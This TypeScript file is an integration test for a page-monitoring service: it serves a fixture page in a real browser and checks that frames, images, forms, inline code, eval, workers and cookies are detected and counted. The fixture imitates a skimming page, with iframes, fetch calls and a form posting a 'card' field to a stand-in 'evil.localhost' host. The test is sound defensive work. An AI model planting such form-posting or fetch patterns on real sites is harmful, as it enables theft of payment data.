// What is seen beyond scripts and connections, in a real browser: by policies, frames without an address, frames,
// images, forms, and code without a URL; by the monitoring script, cookies. And what was counted on the way.
import { deepEqual } from 'node:assert/strict'
import { mkdirSync } from 'node:fs'
import { join } from 'node:path'
import type { Target } from '../program.ts'
import type { Report } from '../report.ts'
import { createApi, type Api } from './api.ts'
import { openBrowser, type Browser } from './browser.ts'
import { makeCertificate } from './certificate.ts'
import { startSite, until, type SiteReply, type SiteRequest } from './site.ts'

const ALL = ['about_frames', 'frames', 'images', 'forms', 'inline', 'eval']
/**
 * A second frame of the same host; the collector's own address; the page's icon, which Firefox loads with a script of
 * its own.
 */
const DROPPED: ReadonlySet<string> = new Set(['duplicate', 'not_fetched', 'extension'])
/** Long enough for everything the page does on a slow machine. */
const STAY_MS = 2500

export async function runFrames(
  browser: Browser,
  target: Target,
  report: Report,
  folder: string,
): Promise<void> {
  const api = createApi(target)
  await report.check(
    `${browser.engine}: frames, images, forms, code without a URL and cookies are found, and counted`,
    () => findsAll(browser, api, target, join(folder, `${browser.engine}-frames`)),
  )
}

async function findsAll(browser: Browser, api: Api, target: Target, folder: string): Promise<void> {
  mkdirSync(folder, { recursive: true })
  const name = `${browser.engine}-frames`
  const hosts = [`www.${name}.localhost`, 'evil.localhost']
  const certificate = await makeCertificate(folder, hosts)
  const zone = await api.post<{ id: string }>('/zones', {
    name: `${name}.localhost`,
  })
  const path = `/zones/${zone.id}/page_shield`
  const own = `/zonereeve${path}`
  await api.call('PUT', path, { enabled: true })
  await api.call('PUT', `${own}/retention`, { active_page_views: 1 })
  await api.call('PUT', `${own}/sampling`, { also_report: ALL, beacon: true })
  const site = await startSite((request) => answer(request), certificate)
  const evil = site.origin('evil')
  const open = openBrowser(browser, join(folder, 'profile'), `${site.origin(`www.${name}`)}/page`, {
    certificate,
    hosts,
    port: site.port,
  })
  try {
    await until(
      () => site.requests.some((request) => request.path === '/left'),
      () => JSON.stringify(site.requests.map((request) => request.path)),
    )
    await until(isAllFound, async () => JSON.stringify(await found()), 30)
  } finally {
    await open.close()
    await site.close()
  }
  deepEqual(await found(), expected())
  await api.call('DELETE', `/zones/${zone.id}`)

  async function isAllFound(): Promise<boolean> {
    return JSON.stringify(await found()) === JSON.stringify(expected())
  }

  async function found() {
    const list = async (at: string) => (await api.get<{ url: string }[]>(at)).map(({ url }) => url).toSorted()
    const code = await api.get<{ kind: string }[]>(`${own}/code`)
    const cookies = await api.get<{ name: string; set_by: string | null }[]>(`${path}/cookies`)
    const { recorded, dropped } = await api.get<Collected>(`${own}/collector`)
    return {
      scripts: await list(`${path}/scripts`),
      connections: await list(`${path}/connections`),
      frames: await list(`${own}/loads?kind=frame`),
      // Chromium also reports the icon of the page.
      images: (await list(`${own}/loads?kind=image`)).filter((url) => url === evil),
      forms: await list(`${own}/loads?kind=form`),
      code: code.map(({ kind }) => kind).toSorted(),
      cookies: cookies
        .map((cookie) => `${cookie.name} by ${cookie.set_by ?? 'an earlier response'}`)
        .toSorted(),
      droppedOtherwise: Object.keys(dropped).filter((reason) => !DROPPED.has(reason)),
      isCounted: recorded >= 10,
    }
  }

  function expected() {
    return {
      scripts: [`${evil}/in-blank.js`, `${evil}/in-srcdoc.js`],
      connections: [evil],
      frames: [evil],
      images: [evil],
      forms: [evil],
      code: ['eval', 'handler', 'inline', 'inline', 'worker'],
      // The script cannot see `hidden`, which is HttpOnly.
      cookies: ['cart by script', 'session by an earlier response'],
      droppedOtherwise: [],
      isCounted: true,
    }
  }

  async function answer(request: SiteRequest): Promise<SiteReply> {
    if (request.path.startsWith('/cdn-cgi/')) return passOn(request, target)
    if (request.path.endsWith('.js'))
      return { headers: { 'content-type': 'text/javascript' }, body: 'self.x = 1' }
    if (request.path !== '/page') return { headers: { 'content-type': 'text/html' }, body: 'ok' }
    const url = encodeURIComponent(`${site.origin(`www.${name}`)}/page`)
    const { headers } = await api.get<{ headers: { name: string; value: string }[] }>(
      `${own}/headers?url=${url}`,
    )
    const { element } = await api.get<{ element: string }>(`${own}/beacon?path=/page`)
    const cookies = ['session=SECRET; Path=/', 'hidden=SECRET; Path=/; HttpOnly']
    const lines: Record<string, string[]> = { 'content-type': ['text/html'], 'set-cookie': cookies }
    for (const header of headers) (lines[header.name] ??= []).push(header.value)
    return { headers: lines, body: pageWith(evil, element) }
  }
}

interface Collected {
  readonly recorded: number
  readonly dropped: Readonly<Record<string, number>>
}

const pageWith = (evil: string, monitorScript: string): string => `<!doctype html><title>frames</title>
${monitorScript}
<button id=b onclick="window.clicked = 1">pay</button>
<iframe srcdoc="<script src='${evil}/in-srcdoc.js'></script><script>fetch('${evil}/api')</script>"></iframe>
<iframe id=blank></iframe><iframe src="${evil}/frame.html"></iframe><img src="${evil}/p.png?q=1">
<form id=f action="${evil}/take" method=post target=t><input name=card value=1></form><iframe name=t></iframe>
<script>
const inner = document.getElementById('blank').contentDocument
const script = inner.createElement('script')
script.src = '${evil}/in-blank.js'
inner.body.append(script)
document.getElementById('b').click()
try { (0, eval)('window.e = 2') } catch {}
new Worker(URL.createObjectURL(new Blob(['self.y = 1'])))
document.getElementById('f').submit()
addEventListener('load', () => {
  document.cookie = 'cart=SECRET'
  setTimeout(() => { location.href = '/left' }, ${STAY_MS})
})
</script>`

/** Forwards browser reports as a proxy in front of the page does. */
async function passOn(
  { method, path, body, headers: sent }: SiteRequest,
  { http }: Target,
): Promise<SiteReply> {
  const headers: Record<string, string> = {}
  for (const name of ['content-type', 'user-agent', 'origin', 'referer']) {
    const value = sent[name]
    if (typeof value === 'string') headers[name] = value
  }
  const reply = await fetch(http + path, { method, headers, ...(method === 'POST' ? { body } : {}) })
  const passed = [...reply.headers].filter(([name]) => /^(access-control-|content-type)/.test(name))
  return { status: reply.status, headers: Object.fromEntries(passed), body: await reply.text() }
}
